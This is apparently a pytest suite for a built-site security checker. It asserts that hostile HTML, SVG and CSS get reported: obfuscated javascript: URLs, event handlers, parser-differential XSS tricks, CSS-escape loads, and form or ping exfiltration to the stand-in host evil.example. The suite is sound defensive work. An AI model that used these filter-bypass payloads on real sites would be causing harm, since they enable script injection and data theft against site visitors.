"""The built-site check against hostile pages: every way a page can run a script, or load or
navigate to another origin, in any case, quoting and encoding; and files that are not what they
seem. Pages are shaped like Material's: theme markup around <article class="md-content__inner">."""

import os
import time
from pathlib import Path

import pytest

from buildtools import HANG_S
from kb.site import sitecheck
from kb.site.sitecheck import check_site

# Material's own inline scripts, as it emits them (partials/javascripts/base.html and content.html).
SCOPE = (
    '__md_scope=new URL(".",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
    '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
    '__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}'
)
TARGET = (
    "var target=document.getElementById(location.hash.slice(1));"
    'target&&target.name&&(target.checked=target.name.startsWith("__tabbed_"))'
)
HEAD = f"""<!doctype html>
<html lang="en" class="no-js">
<head>
<meta charset="utf-8">
<link rel="stylesheet" href="assets/main.css">
<script>{SCOPE}</script>
@HEAD@
</head>
<body>
<header><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M1 1"/></svg>
<a href="javascript:void(0)" class="md-search__icon">share</a></header>
@NAV@
<div class="md-content" data-md-component="content"><article class="md-content__inner md-typeset">
<h1 id="top">Title</h1>
"""
CONTENT_LINE = HEAD.count("\n") + 1  # the line the content starts on (head and nav are one line each)
TAIL = f"""
</article></div>
<script>{TARGET}</script>
<script id="__config" type="application/json">{{"base": ".", "search": "assets/search.js"}}</script>
<script src="assets/bundle.js"></script>
</body>
</html>
"""
ASSETS = {"assets/main.css": "body{color:red}\n", "assets/bundle.js": "", "img/a.png": "png"}


def page(content: str = "", head: str = "", nav: str = "") -> str:
    return HEAD.replace("@HEAD@", head).replace("@NAV@", nav) + content + TAIL


def build(tmp_path: Path, files: dict) -> Path:
    root = tmp_path / "site"
    for rel, body in {**ASSETS, **files}.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(body, bytes):
            path.write_bytes(body)
        else:
            path.write_text(body, encoding="utf-8")
    return root


def run(tmp_path: Path, files: dict, hints=None) -> list[str]:
    return [str(p) for p in sorted(check_site(build(tmp_path, files), hints))]


def test_the_theme_page_itself_passes(tmp_path):
    assert run(tmp_path, {"index.html": page("<p>Hello <a href='#top'>top</a></p>")}) == []


EVIL = "evil.example"

# (content inside the article, what the problem says): each must be reported at the content line.
IN_CONTENT = [
    # protocol-relative, upper-case schemes, quoting
    (f'<img src="//{EVIL}/x.png">', f"loads '//{EVIL}/x.png' from another origin"),
    (f'<img src="\\\\{EVIL}\\x.png">', "from another origin"),
    (f'<img src="/\\{EVIL}/x.png">', "from another origin"),
    (f'<img src="HTTPS://{EVIL}/x.png">', f"loads 'HTTPS://{EVIL}/x.png'"),
    (f"<IMG SRC='https://{EVIL}/x.png'>", "from another origin"),
    (f"<img src=https://{EVIL}/x.png>", "from another origin"),
    (f'<img alt="a"src="https://{EVIL}/x.png">', "from another origin"),
    (f'<img src=" \x01https://{EVIL}/x.png ">', "from another origin"),
    (f'<img src="ht&#x09;tps://{EVIL}/x.png">', f"loads 'https://{EVIL}/x.png'"),
    (f'<img src="https&colon;//{EVIL}/x.png">', "from another origin"),
    (f'<img/src="//{EVIL}/x.png">', "from another origin"),
    # script URLs, entity-encoded and split by whitespace or control characters
    ('<a href="JaVaScRiPt:alert(1)">x</a>', "javascript: URL in href= of <a>"),
    ('<a href="&#106;avascript:alert(1)">x</a>', "javascript: URL"),
    ('<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>', "javascript: URL"),
    ('<a href="java&#x09;script:alert(1)">x</a>', "javascript: URL"),
    ('<a href="java\tscript:alert(1)">x</a>', "javascript: URL"),
    ('<a href="java&NewLine;script:alert(1)">x</a>', "javascript: URL"),
    ('<a href="javascript&colon;alert(1)">x</a>', "javascript: URL"),
    ('<a href=" \x08javascript:alert(1)">x</a>', "javascript: URL"),
    ("<a href=javascript:alert(1)>x</a>", "javascript: URL"),
    ('<a href="vbscript:msgbox(1)">x</a>', "vbscript: URL"),
    ('<a href="javascript:void(0)">x</a>', "javascript: URL"),  # allowed only in the theme's markup
    ('<iframe src="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "data: URL in src= of <iframe>"),
    ('<a href="DATA:text/html;base64,PHNjcmlwdD4=">x</a>', "data: URL in href="),
    ('<img src="data:image/svg+xml,<svg onload=alert(1)>">', "data: URL in src="),
    ('<blockquote cite="javascript:alert(1)">q</blockquote>', "javascript: URL in cite="),
    (f'<a href="//{EVIL}/">x</a>', f"protocol-relative link '//{EVIL}/'"),
    # every attribute that takes a URL
    (f'<form action="https://{EVIL}/collect"><input name="q"></form>', f"<form> sends to 'https://{EVIL}/collect'"),
    (f'<button formaction="//{EVIL}/x">go</button>', "<button> sends to"),
    ('<form action="javascript:alert(1)"></form>', "javascript: URL in action="),
    (f'<video poster="https://{EVIL}/p.png"></video>', "from another origin"),
    (f'<table background="https://{EVIL}/bg.png"><tr><td>x</td></tr></table>', "from another origin"),
    (f'<a href="#top" ping="img/a.png https://{EVIL}/track">x</a>', f"loads 'https://{EVIL}/track'"),
    (f'<audio><source src="https://{EVIL}/a.mp3"></audio>', "from another origin"),
    (f'<video><track src="//{EVIL}/t.vtt"></video>', "from another origin"),
    (f'<input type="image" src="//{EVIL}/i.png">', "from another origin"),
    (f'<link rel="stylesheet" href="HTTPS://{EVIL}/x.css">', "from another origin"),
    (f'<link rel="dns-prefetch" href="//{EVIL}">', "from another origin"),
    (f'<link rel="preload" as="image" imagesrcset="//{EVIL}/e.png 1x">', "from another origin"),
    # srcset: every candidate, commas inside data: URLs, no descriptors, descriptors in parens
    (f'<img src="img/a.png" srcset="img/a.png 1x, https://{EVIL}/b.png 2x">', f"loads 'https://{EVIL}/b.png'"),
    (f'<img src="img/a.png" srcset="https://{EVIL}/b.png,img/a.png 2x">', f"loads 'https://{EVIL}/b.png,img/a.png'"),
    ('<img src="img/a.png" srcset="data:image/png;base64,AA,AA 1x">', "data: URL in srcset="),
    (f'<picture><source srcset="img/a.png 1x,  HTTPS://{EVIL}/d.png 800w"></picture>', "from another origin"),
    # SVG links, sprites and animations
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "javascript: URL in xlink:href="),
    (f'<svg><use href="https://{EVIL}/sprite.svg#i"/></svg>', "from another origin"),
    (f'<svg><image xlink:href="//{EVIL}/i.png"/></svg>', "from another origin"),
    ('<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>', "javascript: URL in to="),
    ('<svg><a><animate attributeName="xlink:href" values="#a;javascript:alert(1)"/></a></svg>', "javascript: URL"),
    # <base> and meta refresh
    (f'<base href="https://{EVIL}/">', "<base> in page content"),
    ('<BASE HREF="./">', "<base> in page content"),
    (f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/">', "<meta http-equiv=refresh> in page content"),
    (f"<META HTTP-EQUIV=Refresh CONTENT=\"0; URL='//{EVIL}'\">", "<meta http-equiv=refresh> in page content"),
    # CSS: url() and @import in style= and <style>, with and without quotes, escapes, comments
    (f'<div style="background:url(https://{EVIL}/a.png)"></div>', f"loads 'https://{EVIL}/a.png'"),
    (f"<div style=\"background:URL( 'https://{EVIL}/a.png' )\"></div>", "from another origin"),
    (f'<div style="background:url(&quot;https://{EVIL}/a.png&quot;)"></div>', "from another origin"),
    (f'<div style="background:\\75 rl(https://{EVIL}/a.png)"></div>', f"loads 'https://{EVIL}/a.png'"),
    (f'<div style="background:u\\72l(//{EVIL}/a.png)"></div>', "from another origin"),
    (f'<div style="background:\\55 RL(//{EVIL}/a.png)"></div>', "from another origin"),
    (f'<div style="background:url(\\68ttps://{EVIL}/a.png)"></div>', f"loads 'https://{EVIL}/a.png'"),
    (f"<div style=\"background:url('\\68 ttps://{EVIL}/a.png')\"></div>", f"loads 'https://{EVIL}/a.png'"),
    (f"<div style=\"background-image:image-set('//{EVIL}/a.png' 1x)\"></div>", "from another origin"),
    (f'<div style="background-image:-webkit-image-set(url(//{EVIL}/a.png) 1x)"></div>', "from another origin"),
    ('<div style="background:url(data:image/png;base64,AA==)"></div>', "data: URL in CSS inside page content"),
    ("<div style=\"background:url('javascript:alert(1)')\"></div>", "javascript: URL in CSS"),
    (f'<style>@import "https://{EVIL}/a.css";</style>', f"loads 'https://{EVIL}/a.css'"),
    (f"<style>@IMPORT '//{EVIL}/a.css';</style>", "from another origin"),
    (f"<style>@import url(//{EVIL}/a.css);</style>", "from another origin"),
    (f'<style>@\\69mport "https://{EVIL}/a.css";</style>', "from another origin"),
    (f'<style>@import/**/"https://{EVIL}/a.css";</style>', "from another origin"),
    (f'<style>.a{{background:url("https://{EVIL}/a.png")}}</style>', "from another origin"),
    (f"<style>/* x */ .a{{background:\\000075rl(//{EVIL}/a.png)}}</style>", "from another origin"),
    (f"<svg><style>.a{{fill:url(&#x2F;&#x2F;{EVIL}/a.svg#p)}}</style></svg>", "from another origin"),
    # scripts, handlers, plugins and inline documents in content
    ("<script>alert(1)</script>", "<script> in page content"),
    ("<ScRiPt>alert(1)</sCrIpT>", "in page content"),
    ('<script src="assets/bundle.js"></script>', "in page content"),
    ('<script/src="assets/bundle.js"></script>', "in page content"),
    ('<script type="application/json">{}</script>', "in page content"),
    (f'<script src="https://{EVIL}/x.js"></script>', f"loads 'https://{EVIL}/x.js'"),
    ('<svg><script href="assets/bundle.js"/></svg>', "in page content"),
    ('<img src="img/a.png" onerror="alert(1)">', "event handler attribute 'onerror' on <img>"),
    ("<img src=img/a.png OnError=alert(1)>", "event handler attribute 'onerror'"),
    ('<svg onload="alert(1)"></svg>', "event handler attribute 'onload' on <svg>"),
    ('<a href="#top" onclick="x()">x</a>', "event handler attribute 'onclick'"),
    ("<details open ontoggle=alert(1)><summary>x</summary></details>", "'ontoggle'"),
    ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "<iframe> with srcdoc"),
    ('<object data="img/a.png"></object>', "<object> element"),
    ('<embed src="img/a.png">', "<embed> element"),
    ('<noscript><img src="img/a.png"></noscript>', "<noscript>"),
    # markup that Python's html.parser reads differently from browsers
    ("<!--><script>alert(1)</script>-->", "<script> in page content"),
    ("<!---><script>alert(1)</script>-->", "<script> in page content"),
    ("<!-- x --!><script>alert(1)</script>", "<script> in page content"),
    ("<![CDATA[ x ><script>alert(1)</script> ]]>", "<script> in page content"),
    ("<?x ><script>alert(1)</script> ?>", "<script> in page content"),
    ('<p title="</article>"><script>alert(1)</script></p>', "<script> in page content"),
    ("</article><script>alert(1)</script><article>", "<script> in page content"),
    ("<style>p{}</style x><script>alert(1)</script>", "<script> in page content"),
    ('</p title=">"><script>alert(1)</script>', "end tag with attributes"),
    ("<textarea><!--</textarea><script>alert(1)</script>--></textarea>", "comment hides the end tag '</textarea'"),
    ('<svg><style><img src="img/a.png" onerror=alert(1)></style></svg>', "'onerror'"),
    ('<math><mtext><table><mglyph><style><img src="img/a.png" onerror=alert(1)>', "'onerror'"),
    ('<svg><title><img src="img/a.png" onerror=alert(1)></title></svg>', "'onerror'"),
    ('<meta charset="iso-2022-jp">', "declares charset 'iso-2022-jp' (expected utf-8)"),
    ("\x1b$B", "an ESC control character"),
]


@pytest.mark.parametrize(("content", "expected"), IN_CONTENT, ids=[c[:60] for c, _ in IN_CONTENT])
def test_hostile_content_is_reported_at_its_line(tmp_path, content, expected):
    out = run(tmp_path, {"index.html": page(content)})
    assert any(line.startswith(f"site/index.html:{CONTENT_LINE}: ") and expected in line for line in out), out
    assert all("(expected" in line for line in out), out


@pytest.mark.parametrize(
    "content",
    [
        '<p>A <a href="https://example.org/">link</a>, <a href="mailto:x@example.org">mail</a>.</p>',
        '<img src="img/a.png" srcset="img/a.png 1x, img/a.png 2x" alt="">',
        '<div style="background:url(img/a.png)"></div><style>.a{background:url("img/a.png")}</style>',
        '<svg viewBox="0 0 2 2" style="max-width:640px"><use href="#top"/><text>x</text></svg>',
        "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt; javascript:alert(1) //evil.example</code></pre>",
        '<p title="onclick=x javascript:alert(1)">on and javascript: in text are words</p>',
        '<a href="#top" data-onclick="x" title="on">x</a>',
        '<div style="background:url(javascript:alert(1))"></div>',  # a bad url(): browsers drop it
    ],
)
def test_ordinary_content_passes(tmp_path, content):
    assert run(tmp_path, {"index.html": page(content)}) == []


# ---- the theme's part of the page ----


def test_theme_scripts_pass_but_foreign_inline_scripts_outside_the_article_fail(tmp_path):
    files = {
        "index.html": page(
            head='<script src="assets/bundle.js"></script><script>alert(1)</script>',
            nav='<nav><span class="md-ellipsis"><script>alert(4)</script></span></nav>',
        )
    }
    out = run(tmp_path, files)
    assert [line.split(" (expected")[0] for line in out] == [
        "site/index.html:7: inline <script> that the theme does not emit",
        "site/index.html:12: inline <script> that the theme does not emit",
    ]


def test_a_theme_script_with_another_scope_url_fails(tmp_path):
    scope = SCOPE.replace('new URL("."', 'new URL("https://evil.example/"')
    head = f"<script>{scope}</script>"
    out = run(tmp_path, {"index.html": page(head=head)})
    assert out and "inline <script> that the theme does not emit" in out[0]


def test_theme_rules_outside_the_article(tmp_path):
    head = "\n".join(
        [
            f'<script src="https://{EVIL}/x.js"></script>',
            f'<base href="https://{EVIL}/">',
            '<base href="./">',
            f'<meta http-equiv="refresh" content="0; url=https://{EVIL}/">',
            '<meta http-equiv="refresh" content="300">',
            '<link rel="icon" href="data:,">',
            '<link rel="canonical" href="https://example.org/">',
        ]
    )
    out = run(tmp_path, {"index.html": page(head=head, nav='<nav onmouseover="x()"></nav>')})
    assert [line.split(" (expected")[0] for line in out] == [
        f"site/index.html:7: loads 'https://{EVIL}/x.js' from another origin",
        f"site/index.html:8: <base href='https://{EVIL}/'> points away from the site",
        f"site/index.html:10: <meta http-equiv=refresh> sends the reader to 'https://{EVIL}/'",
        "site/index.html:12: data: URL in href= of <link>",
        "site/index.html:18: event handler attribute 'onmouseover' on <nav>",
    ]


def test_a_file_that_is_not_a_rendered_page_is_all_content(tmp_path):
    # docs/evil.html is copied as is: a fake article inside it does not make what precedes it theme.
    fake = '<script src="assets/bundle.js"></script><article class="md-content__inner md-typeset"></article>'
    out = run(tmp_path, {"index.html": page(), "evil.html": fake}, {"index.html": "docs/index.md"})
    assert out == [
        'site/evil.html:1: <script src="assets/bundle.js"> in page content (expected no script in a page: only '
        "the theme's own scripts, outside the page content)"
    ]


def test_an_svg_file_is_checked_like_a_page(tmp_path):
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><a href="javascript:x()"/></svg>'
    out = run(tmp_path, {"index.html": page(), "img/evil.svg": svg})
    assert [line.split(":", 2)[:2] for line in out] == [["site/img/evil.svg", "1"]] * 2


def test_an_xml_entity_in_an_svg_file_is_reported(tmp_path):
    svg = (
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "&#60;script&#62;alert(1)&#60;/script&#62;">]>\n<svg>&x;</svg>'
    )
    out = run(tmp_path, {"index.html": page(), "img/evil.svg": svg})
    assert [line.split(" (expected")[0] for line in out] == ["site/img/evil.svg:1: <!ENTITY> declaration"]


# ---- stylesheets ----


def test_stylesheets(tmp_path):
    css = "\n".join(
        [
            "/* @import 'https://evil.example/commented.css'; url(//evil.example/commented.png) */",
            f'@import "https://{EVIL}/a.css";',
            f".a{{background:\\75 rl(//{EVIL}/b.png)}}",
            f".b{{background:image-set('//{EVIL}/c.png' 1x, url(\"../img/a.png\") 2x)}}",
            ".c{background:url( 'javascript:alert(1)' )}",
            ".d{background:url(data:image/svg+xml;utf8,%3Csvg%3E)}",
            f'.e{{content:"url(//{EVIL}/in-a-string.png)"}}',
            ".f{background:url(img/nope.png)}",
        ]
    )
    out = run(tmp_path, {"index.html": page(), "assets/main.css": css})
    assert [line.split(" (expected")[0] for line in out] == [
        f"site/assets/main.css:2: loads 'https://{EVIL}/a.css' from another origin",
        f"site/assets/main.css:3: loads '//{EVIL}/b.png' from another origin",
        f"site/assets/main.css:4: loads '//{EVIL}/c.png' from another origin",
        "site/assets/main.css:5: javascript: URL in CSS",
        "site/assets/main.css:8: broken link 'img/nope.png'",
    ]


# ---- files ----


def test_symlinks_out_of_the_site_and_dangling_ones_are_errors(tmp_path):
    root = build(tmp_path, {"index.html": page()})
    secret = tmp_path / "secret.txt"
    secret.write_text("x")
    os.symlink(secret, root / "leak.txt")
    os.symlink(tmp_path, root / "up")
    os.symlink(root / "img" / "a.png", root / "img" / "b.png")  # inside: fine
    os.symlink(root / "nothing", root / "dangling")
    out = [str(p) for p in sorted(check_site(root))]
    assert [line.split(" (expected")[0].split(": ", 1)[0] for line in out] == [
        "site/dangling:1",
        "site/leak.txt:1",
        "site/up:1",
    ]
    assert "outside the site folder" in out[1]


def test_a_fifo_is_reported_and_does_not_hang(tmp_path):
    root = build(tmp_path, {"index.html": page()})
    os.mkfifo(root / "pipe.html")
    out = [str(p) for p in check_site(root)]
    assert out == ["site/pipe.html:1: not a regular file (expected files and folders only)"]


def test_a_huge_file_is_reported_not_read(tmp_path, monkeypatch):
    monkeypatch.setattr(sitecheck, "MAX_BYTES", 1000)
    out = run(tmp_path, {"index.html": page("<p>" + "x" * 2000 + "</p>")})
    size = (tmp_path / "site" / "index.html").stat().st_size
    assert len(out) == 1 and out[0].startswith(
        f"site/index.html:1: file is {size:,} bytes (expected at most 1,000 bytes"
    )


def test_bytes_that_are_not_utf8_are_reported_and_the_rest_still_checked(tmp_path):
    body = page("<p>\xff\xfe</p>\n<script>alert(1)</script>").encode("utf-8").replace(b"\xc3\xbf\xc3\xbe", b"\xff\xfe")
    out = run(tmp_path, {"index.html": body})
    assert [line.split(":")[1] for line in out] == [str(CONTENT_LINE), str(CONTENT_LINE + 1)]
    assert "not UTF-8" in out[0] and "<script> in page content" in out[1]


def test_a_utf16_page_is_not_utf8(tmp_path):
    out = run(tmp_path, {"index.html": "\ufeff<script>alert(1)</script>".encode("utf-16")})
    assert out and "not UTF-8" in out[0]


MALFORMED = [
    "<a " * 20000,
    '<a href="' + "x" * 100000,
    "<!--" * 20000,
    "<" * 50000,
    "</a " * 20000,
    "<style>" + "url(" * 20000,
    '<div style="' + "url(" * 5000 + '">',
    "<style>" + "/*" * 10000 + "\\" * 10000,
    "<svg><style>" + "@import " * 10000,
    "<img srcset='" + "x 1x," * 10000 + "'>",
    "<script>" + "</scrip" * 10000,
    "<a\x00 href\x00='x'\x00>" * 100,
    "&#" * 10000 + "<&" * 10000,
    "\x00\x01\x02<p\x0b\x0c>" * 1000,
]


@pytest.mark.parametrize("content", MALFORMED, ids=range(len(MALFORMED)))
def test_malformed_markup_never_raises_or_hangs(tmp_path, content):
    start = time.perf_counter()
    run(tmp_path, {"index.html": page(content), "x.html": content, "x.css": content})
    assert time.perf_counter() - start < HANG_S  # a hang guard: each case takes well under 1 s alone


# ---- where the problem is in the source ----


def test_the_source_line_is_named_when_it_can_be_found(tmp_path):
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "page.md").write_text(
        '---\nreviewed: 2026-01-01\ndescription: Test page 1.\n---\n# Title\n\nText.\n\n<img src="img/a.png" onerror="alert(1)">\n',
        encoding="utf-8",
    )
    content = '<p>Text.</p>\n<img src="img/a.png" onerror="alert(1)">'
    out = run(tmp_path, {"index.html": page(content)}, {"index.html": "docs/page.md"})
    assert out == [
        f"site/index.html:{CONTENT_LINE + 1}: event handler attribute 'onerror' on <img> (expected no inline "
        "script) [from docs/page.md:9]"
    ]


def test_folder_symlinks_inside_the_site_are_walked_once_and_loops_end(tmp_path):
    # Each folder is keyed on its real path (its parent's real path and its name, or realpath() for a
    # symlink): one reached twice, by a symlink or a loop, is listed under the first name in sorted order.
    root = build(tmp_path, {"index.html": page('<a href="docs/p.html">p</a> <a href="alias/p.html">a</a>')})
    (root / "docs" / "deep").mkdir(parents=True)
    (root / "docs" / "p.html").write_text(page('<a href="loop/index.html">up</a> <a href="deep/q.html">q</a>'))
    (root / "docs" / "deep" / "q.html").write_text(page('<a href="../../index.html">home</a>'))
    os.symlink(root / "docs", root / "alias")  # sorts before docs/: the folder is listed as alias/
    os.symlink(root, root / "docs" / "loop")
    os.symlink(root / "docs" / "deep", root / "docs" / "deep" / "self")
    out = [str(p).split(" (expected")[0] for p in sorted(check_site(root))]
    assert out == [
        "site/alias/deep/q.html:5: broken link 'assets/main.css'",
        "site/alias/deep/q.html:19: broken link 'assets/bundle.js'",
        "site/alias/p.html:5: broken link 'assets/main.css'",
        "site/alias/p.html:15: broken link 'loop/index.html'",
        "site/alias/p.html:19: broken link 'assets/bundle.js'",
        "site/index.html:15: broken link 'docs/p.html'",
    ]
